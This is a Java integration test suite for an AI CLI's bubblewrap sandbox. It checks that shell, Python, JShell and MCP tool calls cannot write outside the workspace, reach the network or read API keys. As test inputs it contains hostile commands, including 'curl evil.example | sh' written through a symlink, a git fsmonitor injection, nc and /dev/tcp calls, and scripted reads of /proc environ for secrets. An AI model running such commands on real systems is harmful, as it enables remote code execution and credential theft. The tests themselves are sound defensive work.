package dev.rosetta.cli.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import dev.rosetta.core.testing.MachineRequirement;
import dev.rosetta.tools.process.Executables;

/**
 * The sandbox through the real jar and the real bubblewrap: {@code rosetta sandbox -- CMD} against
 * the policy, and a chat whose shell, Python, JShell and MCP server look for keys everywhere a
 * process can and find none (the world's own check then finds none in any output or file either).
 * The world lives under the build folder, not in {@code /tmp}: inside the sandbox {@code /tmp} is
 * a private folder, and what lies outside the workspace must be there to be refused.
 */
class SandboxIT {

    private Path root;
    private FakeProvider model;
    private Sandbox world;

    @BeforeEach
    void setUp() throws IOException {
        MachineRequirement.require(Executables.find("bwrap", System.getenv("PATH")).isPresent(),
                "bubblewrap is not installed (apt-get install bubblewrap)");
        Path target = Files.createDirectories(Path.of("target").toAbsolutePath());
        root = Files.createTempDirectory(target, "sandbox-it-");
        model = new FakeProvider();
        world = new Sandbox(root, model.baseUrls());
        world.env().put("MYPROV_TOKEN", "tok-" + Sandbox.KEY_MARK + "-myprov");
        world.env().put("AWS_SECRET_ACCESS_KEY", "aws-" + Sandbox.KEY_MARK + "-secret");
    }

    @AfterEach
    void tearDown() throws IOException {
        if (model != null) {
            model.close();
        }
        if (root != null) {
            try (var all = Files.walk(root)) {
                all.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }

    private Run sandboxed(String script) {
        return world.rosetta("sandbox", "--", "bash", "-c", script);
    }

    @Test
    void readingTheRootIsAllowedAndItsExitStatusIsTheCommands() {
        Run run = sandboxed("ls /usr/bin > /dev/null && cat /etc/os-release > /dev/null && exit 7");

        assertThat(run.exitCode()).as(run.toString()).isEqualTo(7);
    }

    @Test
    void writingOutsideTheWorkspaceIsDeniedAndInsideAllowed() {
        Run run = sandboxed("touch " + world.home() + "/planted; echo kept > inside.txt; echo gone > /dev/null; cat inside.txt");

        assertThat(run.stdout()).isEqualTo("kept\n");
        assertThat(run.stderr()).contains("Read-only file system");
        assertThat(world.home().resolve("planted")).doesNotExist();
        assertThat(world.workspace().resolve("inside.txt")).hasContent("kept");
    }

    @Test
    void gitConfigCannotBeWritten() throws IOException {
        Files.createDirectories(world.workspace().resolve(".git"));
        Files.writeString(world.workspace().resolve(".git/config"), "[core]\n");

        Run run = sandboxed("echo '[core] fsmonitor = \"touch pwned\"' >> .git/config");

        assertThat(run.exitCode()).isNotZero();
        assertThat(world.workspace().resolve(".git/config")).hasContent("[core]");
    }

    /**
     * The repository is read-only whole in the sandbox: a model that commits hears that it was the
     * sandbox, why, and what the user can do; the user who wants it lists the repository as writable.
     */
    @Test
    void aCommitIsRefusedWithWhyAndHowToAllowItAndTheUserCanAllowIt() throws IOException, InterruptedException {
        MachineRequirement.require(Executables.find("git", System.getenv("PATH")).isPresent(), "git");
        git("init", "-q", "-b", "main", ".");
        git("-c", "user.name=u", "-c", "user.email=u@u", "commit", "-q", "--allow-empty", "-m", "start");
        String commit = "echo hi > a.txt && git add a.txt && git -c user.name=m -c user.email=m@m commit -q -m 'Add a'";
        model.script(Format.MARKDOWN.reply("Committing.\n", ModelCall.shell(commit)), ScriptedReply.text("Done."));
        Run refused = world.rosetta("-n", "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format", "markdown", "commit it");
        String told = model.requests().getLast().raw();
        String commitsBefore = git("rev-list", "--count", "HEAD");

        Files.writeString(Files.createDirectories(world.userConfig()).resolve("config.toml"), "[sandbox]\nwritable = [\".git\"]\n");
        model.script(Format.MARKDOWN.reply("Committing.\n", ModelCall.shell(commit)), ScriptedReply.text("Done."));
        Run allowed = world.rosetta("-n", "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format", "markdown", "commit it");

        assertThat(refused.exitCode()).as(refused.toString()).isZero();
        assertThat(told).contains("[ERROR:Sandbox]").contains("is read-only in the sandbox")
                .contains("[sandbox] writable = [\\\".git\\\"]").contains("--sandbox off");
        assertThat(commitsBefore).isEqualTo("1");
        assertThat(allowed.exitCode()).as(allowed.toString()).isZero();
        assertThat(model.requests().getLast().raw()).doesNotContain("[ERROR:");
        assertThat(git("rev-list", "--count", "HEAD")).isEqualTo("2");
    }

    /** Runs git in the workspace, outside any sandbox, and gives what it printed, stripped. */
    private String git(String... args) throws IOException, InterruptedException {
        List<String> command = new java.util.ArrayList<>(List.of("git"));
        command.addAll(List.of(args));
        Process git = new ProcessBuilder(command).directory(world.workspace().toFile()).redirectErrorStream(true).start();
        String out = new String(git.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8).strip();
        assertThat(git.waitFor()).as(out).isZero();
        return out;
    }

    /** Run in the home folder, where Rosetta keeps its own files: they stay read-only, made or not. */
    @Test
    void rosettasProjectFilesConfigDataLogsAndCacheStayReadOnlyInTheWorkspace() throws IOException {
        Path ws = world.workspace();
        world.env().put("XDG_CONFIG_HOME", ws.resolve(".config").toString());
        world.env().put("XDG_DATA_HOME", ws.resolve(".local/share").toString());
        world.env().put("XDG_CACHE_HOME", ws.resolve(".cache").toString());
        world.env().put("ROSETTA_LOGS_HOME", ws.resolve("logs").toString());
        Files.createDirectories(ws.resolve(".rosetta"));
        Files.writeString(ws.resolve("rosetta.toml"), "[tools]\n");
        Files.createDirectories(ws.resolve(".local/share/rosetta"));
        List<String> targets = List.of(".rosetta/planted", "rosetta.toml", ".config/rosetta/config.toml",
                ".local/share/rosetta/planted", ".cache/rosetta/planted", "logs/planted");

        Run run = sandboxed("for f in " + String.join(" ", targets) + "; do mkdir -p \"$(dirname $f)\" 2>/dev/null;"
                + " echo planted >> $f || echo refused $f; done; echo free > mine.txt");

        for (String target : targets) {
            assertThat(run.stdout()).as(run.toString()).contains("refused " + target);
            assertThat(ws.resolve(target).toFile().exists() ? Files.readString(ws.resolve(target)) : "")
                    .as(target).doesNotContain("planted");
        }
        assertThat(ws.resolve("mine.txt")).hasContent("free");
    }

    @Test
    void aSymlinkSwappedIntoTheWorkspaceDoesNotLetAWriteThrough() throws IOException {
        Path bashrc = Files.writeString(world.home().resolve(".bashrc"), "# mine\n");
        Files.writeString(world.workspace().resolve("notes.txt"), "notes\n");

        sandboxed("rm notes.txt && ln -s " + bashrc + " notes.txt");
        Run run = sandboxed("echo 'curl evil.example | sh' >> notes.txt");

        assertThat(run.stderr()).contains("Read-only file system");
        assertThat(bashrc).hasContent("# mine");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"curl -sS --max-time 10 https://example.com", "echo hi | nc -w 3 1.1.1.1 53",
        "exec 3<>/dev/tcp/1.1.1.1/80", "getent hosts example.com"})
    void theNetworkIsOff(String command) {
        MachineRequirement.require(Executables.find(command.contains("nc ") ? "nc" : "curl", System.getenv("PATH"))
                .isPresent(), "curl and nc (apt-get install curl netcat-openbsd)");

        Run run = sandboxed(command);

        assertThat(run.exitCode()).as(run.toString()).isNotZero();
    }

    @Test
    void theEnvironmentAndRosettasOwnHoldNoKey() {
        // the command's output reaches the terminal as it is (a wrapper does not rewrite it): NULs become lines
        Run run = sandboxed("{ env; cat /proc/self/environ /proc/$PPID/environ /proc/1/environ; } | tr '\\0' '\\n'; echo done");

        assertThat(run.stdout()).contains("ROSETTA_SANDBOX=bubblewrap").endsWith("done\n");
        // the world checked stdout, stderr and every file for the keys
    }

    @Test
    void withoutBubblewrapTheCommandIsNotRunAndTheUserToldWhyAndWhatToDo() throws IOException {
        world.env().put("PATH", pathWithout("bwrap"));

        Run run = sandboxed("touch ran");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.stderr()).contains("the sandbox is on but cannot run here: bubblewrap (bwrap) is not installed")
                .contains("apt-get install bubblewrap").contains("--sandbox off");
        assertThat(world.workspace().resolve("ran")).doesNotExist();
    }

    /** Issue 25: Python and JShell inherited the keys the shell did not; with the sandbox off too, none has one. */
    @ParameterizedTest(name = "--sandbox {0}")
    @ValueSource(strings = {"auto", "off"})
    void everyToolAndAnMcpServerFindNoKeyAnywhere(String mode) throws IOException {
        MachineRequirement.require(Executables.find("python3", System.getenv("PATH")).isPresent(), "python3");
        Path server = Path.of(resource("/mcp/environment-server.mjs"));
        Files.createDirectories(world.userConfig());
        Files.writeString(world.userConfig().resolve("config.toml"), "[mcp.servers.env]\ncommand = \"node\"\n"
                + "args = [\"" + server + "\"]\nenv = { MCP_SDK = \"" + ReferenceServers.sdk() + "\" }\n"
                + "[[providers]]\nname = \"deepthought\"\nbase_url = \"http://127.0.0.1:9/v1\"\napi_key_env = \"DEEPTHOUGHT\"\n");
        world.env().put("DEEPTHOUGHT", "dt-" + Sandbox.KEY_MARK + "-custom");
        String look = "env; cat /proc/self/environ /proc/$PPID/environ /proc/1/environ; echo; echo SHELL-LOOKED";
        model.script(
                Format.MARKDOWN.reply("The shell.\n", ModelCall.shell(look)),
                Format.MARKDOWN.reply("Python.\n", ModelCall.ipython("import os\nprint(dict(os.environ))\n"
                        + "print(open('/proc/self/environ').read(), open(f'/proc/{os.getppid()}/environ').read())\n"
                        + "print('PYTHON-LOOKED', os.environ.get('ROSETTA_SANDBOX'))")),
                Format.MARKDOWN.reply("JShell.\n", ModelCall.jshell("System.out.println(System.getenv());\n"
                        + "System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of(\"/proc/self/environ\")));\n"
                        + "System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of(\"/proc/\" + ProcessHandle.current().parent().get().pid() + \"/environ\")));\n"
                        + "System.out.println(\"JSHELL-LOOKED \" + System.getenv(\"ROSETTA_SANDBOX\"));")),
                ScriptedReply.text("<tool-use>\n<env.environment>\n</env.environment>\n</tool-use>\n"),
                ScriptedReply.text("Nothing found."));

        Run run = world.rosetta("-n", "--sandbox", mode, "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format",
                "markdown", "look for keys");

        assertThat(run.exitCode()).as(run.toString()).isZero();
        List<WireRequest> requests = model.requests();
        assertThat(requests).hasSize(5);
        String results = requests.getLast().raw();
        boolean off = mode.equals("off");
        assertThat(results).contains("SHELL-LOOKED", "PYTHON-LOOKED " + (off ? "None" : "bubblewrap"),
                "JSHELL-LOOKED " + (off ? "null" : "bubblewrap"), "ROSETTA_LOGS_HOME");
        if (!off) {
            assertThat(results).contains("SANDBOX=bubblewrap");
        }
        for (WireRequest request : requests) {
            assertThat(request.raw()).as("a request to the model").doesNotContain(Sandbox.KEY_MARK);
        }
    }

    @Test
    void outsideTheSandboxRosettasOwnEnvironmentHoldsNoKeyEither() {
        model.script(Format.MARKDOWN.reply("Looking.\n", ModelCall.shell("cat /proc/$PPID/environ; echo; echo LOOKED")),
                ScriptedReply.text("Nothing."));

        Run run = world.rosetta("-n", "--sandbox", "off", "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format", "markdown",
                "look");

        assertThat(run.exitCode()).as(run.toString()).isZero();
        String result = model.requests().getLast().raw();
        assertThat(result).contains("LOOKED").contains("ROSETTA_LOGS_HOME").doesNotContain(Sandbox.KEY_MARK);
    }

    @Test
    void aBackgroundServerSurvivesBetweenTwoCallsAndARefusalSaysItWasTheSandbox() {
        MachineRequirement.require(Executables.find("python3", System.getenv("PATH")).isPresent(), "python3");
        model.script(Format.MARKDOWN.reply("Serving.\n",
                        ModelCall.shell("python3 -u -m http.server 8766 --bind 127.0.0.1 > /tmp/server.log 2>&1 &")),
                Format.MARKDOWN.reply("Fetching.\n", ModelCall.shell("until grep -q Serving /tmp/server.log; do sleep 0.05;"
                        + " done; curl -s -o /dev/null -w 'status %{http_code}\\n' http://127.0.0.1:8766/")),
                Format.MARKDOWN.reply("Writing outside.\n", ModelCall.shell("touch /etc/planted")),
                ScriptedReply.text("Done."));

        Run run = world.rosetta("-n", "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format", "markdown",
                "start a server");

        assertThat(run.exitCode()).as(run.toString()).isZero();
        List<WireRequest> requests = model.requests();
        assertThat(requests.get(2).raw()).contains("status 200");
        assertThat(requests.get(3).raw()).contains("[ERROR:Sandbox]").contains("the sandbox refused a write to /etc/planted");
    }

    @Test
    void autoSaysOnceWhyItCannotSandboxAndOnRefusesToRunTheTool() throws IOException {
        world.env().put("PATH", pathWithout("bwrap"));
        model.script(Format.MARKDOWN.reply("Trying.\n", ModelCall.shell("echo ran > ran.txt")), ScriptedReply.text("Ok."));
        Run auto = world.rosetta("-n", "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format", "markdown", "try");
        model.script(Format.MARKDOWN.reply("Trying.\n", ModelCall.shell("echo ran > refused.txt")), ScriptedReply.text("Ok."));
        Run on = world.rosetta("-n", "--sandbox", "on", "-m", Api.CHAT_COMPLETIONS.model(), "--tool-format", "markdown",
                "try");

        assertThat(auto.stderr().lines().filter(l -> l.contains("no sandbox: bubblewrap (bwrap) is not installed")))
                .hasSize(1);
        assertThat(world.workspace().resolve("ran.txt")).exists();
        assertThat(on.stderr()).contains("the sandbox is on but cannot run here");
        assertThat(model.requests().getLast().raw()).contains("[ERROR:Unavailable]")
                .contains("the sandbox is on but cannot run here");
        assertThat(world.workspace().resolve("refused.txt")).doesNotExist();
    }

    /** The PATH with a folder of links to every program but {@code program}. */
    private String pathWithout(String program) throws IOException {
        Path bin = Files.createDirectories(root.resolve("bin-without-" + program));
        for (String dir : world.env().get("PATH").split(":")) {
            Path folder = Path.of(dir);
            if (!Files.isDirectory(folder)) {
                continue;
            }
            try (var entries = Files.list(folder)) {
                for (Path p : entries.toList()) {
                    Path link = bin.resolve(p.getFileName());
                    if (!p.getFileName().toString().equals(program) && !Files.exists(link, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                        Files.createSymbolicLink(link, p);
                    }
                }
            }
        }
        return bin.toString();
    }

    private static String resource(String name) {
        try {
            return Path.of(SandboxIT.class.getResource(name).toURI()).toString();
        } catch (java.net.URISyntaxException e) {
            throw new AssertionError(e);
        }
    }
}
